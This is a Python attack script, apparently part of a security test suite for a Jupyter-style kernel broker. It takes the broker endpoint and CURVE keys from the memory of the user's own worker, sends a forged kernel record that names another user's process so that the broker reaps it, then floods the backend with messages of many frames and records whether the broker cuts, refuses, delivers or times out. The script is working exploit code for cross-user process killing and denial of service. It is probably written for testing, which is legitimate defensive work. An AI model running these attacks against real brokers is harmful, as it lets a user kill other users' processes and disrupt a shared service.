"""A user floods the broker's backend with the key of their own worker, and names another user's process.

Run as that user (not as root): it takes the backend endpoint and CURVE keypair out of the memory of the
user's own kernel worker as ``hostile_worker.py`` does, then

1. sends a kernel record that names *forge_pid* (another user's worker: a pid and start time anyone reads
   in /proc) as one of its kernels, and drops it again, which asks the broker to reap that pid;
2. up to *attempts* times, on a fresh connection with the stolen key, sends one message of *frames*
   2-byte frames and watches how it ends: ``cut`` (the broker shut the connection), ``delivered`` (the
   broker's kernel acknowledged every byte), ``timeout``, or ``refused`` (the handshake failed: the key
   is dead), which ends the attempts.

Prints one JSON line: ``{"outcomes": [...]}``.

Usage: python hostile_flooder.py JSON   (see ``Plan``; the server's public key on stdin)
"""

from __future__ import annotations

import json
import os
import socket
import sys
import time
import uuid
from pathlib import Path
from typing import Any

import msgspec
import zmq
from flooder import CURVE_FRAME_WIRE, _watch
from hostile_worker import TAG, steal
from zmq.utils.monitor import parse_monitor_message

HANDSHAKE_WAIT = 30.0


class Plan(msgspec.Struct):
    """Whose worker to take, what to flood with, whose process to name."""

    pid: int
    user: str
    frames: int
    attempts: int
    forge_pid: int


def start_ticks(pid: int) -> int:
    """Field 22 of /proc/PID/stat: readable by anyone, for any process."""
    stat = Path(f"/proc/{pid}/stat").read_text()
    return int(stat.rsplit(")", 1)[1].split()[19])


def name_a_process(sock: zmq.Socket[bytes], plan: Plan) -> None:
    """A kernel record whose pid and start time are another user's process, then its removal (a reap)."""
    kernel_id = str(uuid.uuid4())
    document = {
        "kernel_id": kernel_id, "user": plan.user, "name": "forged", "env": "/nowhere", "env_name": "forged",
        "kind": "ipykernel", "pid": plan.forge_pid, "start_ticks": start_ticks(plan.forge_pid),
        "started": time.time(), "connection": {}, "connection_file": "/nowhere/k.json",
        "log_file": "/nowhere/k.log", "cwd": "/", "argv": ["true"], "environ": {},
    }  # fmt: skip
    sock.send_multipart([TAG, b"KERNEL", kernel_id.encode(), json.dumps(document).encode()])
    sock.send_multipart([TAG, b"KERNEL", kernel_id.encode(), b""])


def flood_once(ctx: zmq.Context[Any], endpoint: str, keys: tuple[bytes, bytes, bytes], frames: int) -> str:
    """One connection, one message of *frames* 2-byte frames: how it ended."""
    server, public, secret = keys
    sock = ctx.socket(zmq.DEALER)
    sock.curve_serverkey, sock.curve_publickey, sock.curve_secretkey = server, public, secret
    sock.sndhwm, sock.linger = 0, 0
    monitor = sock.get_monitor_socket()
    try:
        sock.connect(endpoint)
        fd = -1
        deadline = time.monotonic() + HANDSHAKE_WAIT
        while time.monotonic() < deadline:
            if not monitor.poll(100):
                continue
            event = parse_monitor_message(monitor.recv_multipart())
            if event["event"] == zmq.EVENT_CONNECTED:
                fd = int(event["value"])
            elif event["event"] == zmq.EVENT_HANDSHAKE_SUCCEEDED:
                break
            elif event["event"] in (zmq.EVENT_HANDSHAKE_FAILED_AUTH, zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL):
                return "refused"
        else:
            return "refused"
        try:
            conn = socket.socket(fileno=os.dup(fd))
        except OSError:
            return "cut"  # the server shut the connection as soon as it was made (its key's owner was stopped)
        sock.send_multipart([b"ab"] * frames)
        return str(_watch(monitor, conn, frames * CURVE_FRAME_WIRE)["outcome"])
    finally:
        sock.disable_monitor()
        monitor.close(0)
        sock.close(0)


def attack(plan: Plan, server_key: bytes) -> dict[str, Any]:
    """Name the other user's process, then flood until the key is refused or the attempts are spent."""
    endpoint, public, secret = steal(plan.pid)
    ctx = zmq.Context()
    try:
        forger = ctx.socket(zmq.DEALER)
        forger.curve_serverkey, forger.curve_publickey, forger.curve_secretkey = server_key, public, secret
        forger.linger = 5000
        forger.connect(endpoint)
        name_a_process(forger, plan)
        forger.close()  # lingers until both messages are out
        outcomes = []
        for _ in range(plan.attempts):
            outcomes.append(flood_once(ctx, endpoint, (server_key, public, secret), plan.frames))
            if outcomes[-1] == "refused":
                break
        return {"outcomes": outcomes}
    finally:
        ctx.term()


def main() -> None:
    """Read the plan from argv, the server's public key from stdin."""
    plan = msgspec.json.decode(sys.argv[1].encode(), type=Plan)
    print(json.dumps(attack(plan, sys.stdin.readline().strip().encode())), flush=True)


if __name__ == "__main__":
    main()
